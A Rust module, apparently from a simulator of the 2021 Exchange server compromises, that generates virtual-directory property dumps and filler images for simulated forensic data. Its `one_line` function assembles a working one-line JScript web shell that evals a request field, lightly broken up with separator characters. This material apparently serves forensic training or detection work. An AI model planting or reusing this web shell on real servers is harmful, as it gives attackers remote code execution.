//! Pages: what the reset of a virtual directory writes, and files that any server has.

use super::whole;
use crate::host::Host;
use crate::moment::Moment;

/// A virtual directory's properties as the reset writes them to a file, with `url` as its external address
/// (the public form of the March 2021 shells, as CISA's malware reports print it).
pub fn directory_dump(host: &Host, time: Moment, guid: &str, url: &str) -> String {
    let domain = host.distinguished();
    let [major, minor, build, revision] = host.build;
    let name = "OAB (Default Web Site)";
    let container = format!(
        "CN=HTTP,CN=Protocols,CN={},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),\
         CN=Administrative Groups,CN=First Organization,CN=Microsoft Exchange,CN=Services,CN=Configuration,{domain}",
        host.name
    );
    let rows: [(&str, String); 27] = [
        ("Name", name.to_owned()),
        ("PollInterval", "480".to_owned()),
        ("OfflineAddressBooks", "\\Default Offline Address Book".to_owned()),
        ("RequireSSL", "True".to_owned()),
        ("BasicAuthentication", "False".to_owned()),
        ("WindowsAuthentication", "True".to_owned()),
        ("OAuthAuthentication", "False".to_owned()),
        ("MetabasePath", format!("IIS://{}/W3SVC/{}/ROOT/OAB", host.full_name(), host.sites.0)),
        ("Path", host.installed("FrontEnd\\HttpProxy\\OAB")),
        ("ExtendedProtectionTokenChecking", "None".to_owned()),
        ("ExtendedProtectionFlags", String::new()),
        ("ExtendedProtectionSPNList", String::new()),
        ("AdminDisplayVersion", format!("Version {major}.{minor} (Build {build}.{revision})")),
        ("Server", host.name.to_owned()),
        ("InternalUrl", format!("https://{}/OAB", host.full_name().to_lowercase())),
        ("InternalAuthenticationMethods", "WindowsIntegrated".to_owned()),
        ("ExternalUrl", url.to_owned()),
        ("ExternalAuthenticationMethods", "WindowsIntegrated".to_owned()),
        ("AdminDisplayName", String::new()),
        ("ExchangeVersion", "0.10 (14.0.100.0)".to_owned()),
        ("DistinguishedName", format!("CN={name},{container}")),
        ("Identity", format!("{}\\{name}", host.name)),
        ("Guid", guid.to_owned()),
        ("ObjectCategory", format!("{}/Configuration/Schema/ms-Exch-OAB-Virtual-Directory", host.domain)),
        ("ObjectClass", "top msExchVirtualDirectory msExchOABVirtualDirectory".to_owned()),
        ("WhenChanged", host.printed(time)),
        ("IsValid", "True".to_owned()),
    ];
    listed(&rows)
}

/// The same of the admin centre's directory, whose internal address is `url`.
pub fn admin_dump(host: &Host, time: Moment, guid: &str, url: &str) -> String {
    let [major, minor, build, revision] = host.build;
    let name = "ecp (Default Web Site)";
    let no = || "False".to_owned();
    let yes = || "True".to_owned();
    let outside = host.mail_names.first().copied().unwrap_or_default();
    let rows: [(&str, String); 26] = [
        ("AdminEnabled", yes()),
        ("OwaOptionsEnabled", yes()),
        ("Name", name.to_owned()),
        ("InternalAuthenticationMethods", "Basic Fba".to_owned()),
        ("MetabasePath", format!("IIS://{}/W3SVC/{}/ROOT/ecp", host.full_name(), host.sites.0)),
        ("BasicAuthentication", yes()),
        ("WindowsAuthentication", no()),
        ("DigestAuthentication", no()),
        ("FormsAuthentication", yes()),
        ("LiveIdAuthentication", no()),
        ("AdfsAuthentication", no()),
        ("OAuthAuthentication", no()),
        ("DefaultDomain", String::new()),
        ("GzipLevel", "High".to_owned()),
        ("WebSite", "Default Web Site".to_owned()),
        ("DisplayName", "ecp".to_owned()),
        ("Path", host.installed("FrontEnd\\HttpProxy\\ecp")),
        ("AdminDisplayVersion", format!("Version {major}.{minor} (Build {build}.{revision})")),
        ("Server", host.name.to_owned()),
        ("InternalUrl", url.to_owned()),
        ("ExternalUrl", format!("https://{outside}/ecp")),
        ("Identity", format!("{}\\{name}", host.name)),
        ("Guid", guid.to_owned()),
        ("ObjectClass", "top msExchVirtualDirectory msExchECPVirtualDirectory".to_owned()),
        ("WhenChanged", host.printed(time)),
        ("IsValid", yes()),
    ];
    listed(&rows)
}

fn listed(rows: &[(&str, String)]) -> String {
    let lines: Vec<String> = rows.iter().map(|(name, value)| format!("{name:<32}: {value}")).collect();
    format!("\r\n\r\n{}\r\n\r\n", lines.join("\r\n"))
}

/// The one-line script of most of these shells, by its request item.
pub fn one_line(item: &str) -> String {
    whole("<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){ev¦al(Req¦uest[\"ITEM\"],\"uns¦afe\");}</scr¦ipt>")
        .replace("ITEM", item)
}

/// A picture's bytes, so that web folders are not empty of pictures.
pub fn picture(seed: u8) -> Vec<u8> {
    let mut bytes = b"GIF89a\x01\x00\x01\x00\x80\x00\x00".to_vec();
    bytes.extend([seed, 0x33, 0x66, 0xff, 0xff, 0xff, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b]);
    bytes
}
